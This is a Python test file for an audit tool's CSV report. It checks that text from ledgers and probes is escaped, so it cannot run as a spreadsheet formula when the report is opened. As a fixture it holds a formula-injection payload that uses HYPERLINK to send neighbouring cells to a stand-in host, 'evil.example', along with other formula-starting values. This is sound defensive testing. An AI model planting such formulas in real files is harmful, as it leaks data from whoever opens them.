"""The CSV report opened in a spreadsheet: no cell from ledger, probe or journal text is a
formula (review `web`, finding 2)."""

from __future__ import annotations

import csv
import io
import sys
from pathlib import Path

import yaml

from tests.conftest import handoff


def _ledger(tmp_path: Path, data: dict) -> Path:
    ledger = tmp_path / "ledger.yaml"
    ledger.write_text(yaml.safe_dump(data, sort_keys=False))
    return ledger


def _run_link(ledger: Path, target: str) -> None:
    """The ordinary person's path: run the reversible check, approve the irreversible link, run it."""
    for args in (("run", ledger, target), ("approve", ledger, target, "--yes", "--as", "alice"), ("run", ledger, target)):
        done = handoff(*args)
        assert done.returncode == 0, done.stdout + done.stderr


FORMULA = '=HYPERLINK("http://evil.example/?leak="&A2,"details")'


def test_csv_report_cells_from_ledger_and_probe_text_are_not_spreadsheet_formulas(tmp_path: Path) -> None:
    """Promise (engine/audit/report_render.py): "Ledger text is data: CSV and JSON carry it as
    values"; the CSV is made to be opened in a spreadsheet ("the proof as `#` comment lines (a
    spreadsheet shows them as rows)").

    What happens: a cell is written as the text it is, so text that starts with `=`, `+`, `-`
    or `@` is a formula when the auditor opens the CSV in Excel/LibreOffice/Sheets: here the
    checkpoint a verify probe printed (any system's output) becomes `=HYPERLINK(...)` sending
    the neighbouring cells to another host, and a target named `@SUM(1+1)` is a formula too
    (to_csv, engine/audit/report_render.py:43-46, only spells out control characters)."""
    probe = f"print({FORMULA!r})"
    runbook = {"steps": [
        {"name": "check", "from": "queued", "to": "checked", "reversible": True, "run": ["true"],
         "verify": [sys.executable, "-c", probe]},
        {"name": "link", "from": "checked", "to": "done", "run": ["true"]}]}
    ledger = _ledger(tmp_path, {"task": "t", "runbook": runbook, "targets": {"@SUM(1+1)": {"state": "queued"}}})
    _run_link(ledger, "@SUM(1+1)")
    report = handoff("report", ledger)
    rows = [r for r in csv.DictReader(io.StringIO(report.stdout)) if not r["seq"].startswith("#")]
    assert len(rows) == 1, report.stdout
    formulas = {column: cell for column, cell in rows[0].items() if cell[:1] in ("=", "+", "-", "@")}
    assert not formulas, f"these CSV cells are spreadsheet formulas: {formulas}"


def test_a_formula_cell_is_shown_as_its_text_and_a_negative_exit_code_stays_a_number() -> None:
    """OWASP's rule, cell by cell: text starting with `=`, `+`, `-`, `@`, a tab or a carriage
    return gets a `'` before it (the spreadsheet shows the text, unchanged after the `'`); a
    number the engine wrote (exit code -9: killed) is written as it is."""
    from engine.audit.report import build
    from engine.audit.report_render import to_csv
    from engine.audit.verify import Verdict

    records = [
        {"kind": "gate", "target": "\tdb-1", "step": "link", "actor": "+bob", "seq": 1},
        {"kind": "approval", "target": "\tdb-1", "step": "link", "hash": "h1", "actor": "-alice", "at": "t", "seq": 2,
         "checkpoint": "\r=1+1"},
        {"kind": "step_start", "target": "\tdb-1", "step": "link", "approval_hash": "h1", "approval_by": "-alice",
         "approval_at": "t", "seq": 3, "token": "s/1", "argv": ["=x"]},
        {"kind": "step_end", "target": "\tdb-1", "step": "link", "token": "s/1", "exit_code": -9, "seq": 4},
    ]
    text = to_csv(build(records, Verdict(), irreversible={"link"}))
    row = next(r for r in csv.DictReader(io.StringIO(text)) if not r["seq"].startswith("#"))
    assert (row["target"], row["requested_by"], row["approved_by"]) == ("'\tdb-1", "'+bob", "'-alice")
    assert row["checkpoint"] == "\\x0d=1+1"  # a carriage return is spelled out (`visible`): the cell starts as text
    assert row["exit_code"] == "-9" and row["argv"] == '["=x"]'
